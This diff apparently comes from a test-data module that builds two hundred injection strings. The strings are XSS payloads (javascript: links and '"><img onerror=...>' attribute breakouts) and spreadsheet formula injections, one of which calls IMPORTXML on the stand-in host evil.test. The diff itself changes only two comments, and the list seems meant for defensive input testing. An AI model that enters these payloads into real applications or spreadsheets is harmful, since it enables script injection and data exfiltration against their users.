@@ -25,7 +25,7 @@ const elements = (call: string): string[] => [
   `<a z href="javascript:${call}">x</a>`,
 ];
 
-/** Leave the place where a text usually stands. */
+/** Break out of the place where a text usually is. */
 const escapes = (call: string): string[] => [
   `"><img z src=x onerror=${call}>`,
   `'><img z src=x onerror=${call}>`,
@@ -56,7 +56,7 @@ const formulas = (start: string): string[] => [
   `${start}IMPORTXML("//evil.test",1)`,
 ];
 
-/** Two hundred texts that people could type where a name, a note or a reference is asked for; none is longer than sixty characters. */
+/** Two hundred texts that users could type into a name, a note or a reference; none is longer than sixty characters. */
 export const markupPayloads: readonly string[] = [
   ...calls.flatMap((call) => [...elements(call), ...escapes(call), ...addresses(call)]),
   ...['=', '+', '-', '@', '\t='].flatMap(formulas),
